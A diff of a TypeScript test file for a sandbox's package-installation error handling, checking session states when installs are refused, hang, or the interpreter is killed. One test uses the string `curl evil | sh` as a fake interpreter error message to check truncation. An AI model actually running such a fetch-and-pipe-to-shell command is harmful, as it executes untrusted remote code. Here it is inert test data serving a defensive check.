@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { RpcError } from '../../../src/shared/rpc/errors.ts';
 import { RunResult, type RunOutput, type RunRequest } from '../../../src/shared/sandbox.ts';
 import { InvalidRequestError } from '../../../src/main/sandbox/parse-request.ts';
+import { PackageError } from '../../../src/main/packages/package-error.ts';
 import type { PackageProvider } from '../../../src/main/sandbox/package-provider.ts';
 import type { RunOptions } from '../../../src/main/sandbox/sandbox-config.ts';
 import {
@@ -325,7 +326,7 @@ describe('failing to start', () => {
         Promise.reject(new RpcError('failed', `curl evil | sh ${'x'.repeat(999)}`));
       const all = stage({ installPackages: refuse }, { packages });
       const { error, session, status } = await run(all, { session: 's', packages: ['six'] });
-      expect([status, session.state, error?.message.length]).toEqual(['setup-failed', 'lost', 559]);
+      expect([status, session.state, error?.message.length]).toEqual(['setup-failed', 'reset', 559]);
       expect(error?.message).toMatch(
         /^its packages could not be installed; the interpreter says: curl evil/u,
       );
@@ -354,6 +355,73 @@ describe('failing to start', () => {
       expect(all.launcher.processes).toHaveLength(2);
     });
 
+    /** Its first installation kills the process. */
+    const dyingOnce = (): Stage => {
+      let hasDied = false;
+      const all = stage(
+        {
+          installPackages: () => {
+            if (hasDied) return { missing: [] };
+            hasDied = true;
+            all.launcher.last.exit(null, 'SIGKILL');
+            return never();
+          },
+        },
+        { packages },
+      );
+      return all;
+    };
+
+    it('with a dying process loses nothing in a session in which nothing had been', async () => {
+      const all = dyingOnce();
+      expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
+        status: 'ok',
+        session: { state: 'kept' },
+      });
+      expect(all.events.filter(({ type }) => type === 'session-ended')).toEqual([]);
+    });
+
+    it('with a dying process loses what earlier runs left, and says so once', async () => {
+      const all = dyingOnce();
+      await run(all, { session: 's' });
+      const states = [
+        (await run(all, { session: 's', packages: ['six'] })).session.state,
+        (await run(all, { session: 's' })).session.state,
+      ];
+      expect(states).toEqual(['lost', 'kept']);
+    });
+
+    it('with a dying process loses the files of a run that never began but was told that they are kept', async () => {
+      let refused = false;
+      const all = stage(
+        {
+          installPackages: () => {
+            all.launcher.last.exit(null, 'SIGKILL');
+            return never();
+          },
+        },
+        {
+          packages: {
+            ...packages,
+            ensure: async () => {
+              if (refused) return [wheel];
+              refused = true;
+              throw new PackageError('no-source', 'it is nowhere to be had', { packageName: 'six' });
+            },
+          },
+        },
+      );
+      const files = [{ name: 'a', bytes: utf8('a') }];
+      expect(await run(all, { session: 's', packages: ['six'], files })).toMatchObject({
+        status: 'setup-failed',
+        session: { state: 'kept' },
+      });
+      expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
+        status: 'setup-failed',
+        session: { state: 'lost' },
+      });
+    });
+
     it('without an answer ends the interpreter, whose session would hang at each run', async () => {
       const all = stage({ installPackages: () => never() }, { packages });
       const running = run(all, { session: 's', packages: ['six'] });
@@ -365,7 +433,7 @@ describe('failing to start', () => {
       }
       expect(await running).toMatchObject({
         status: 'setup-failed',
-        session: { state: 'lost' },
+        session: { state: 'reset' },
         error: { message: 'packages were not installed within 120 s' },
       });
       expect(all.launcher.last.called('closeInterpreter')).toHaveLength(1);
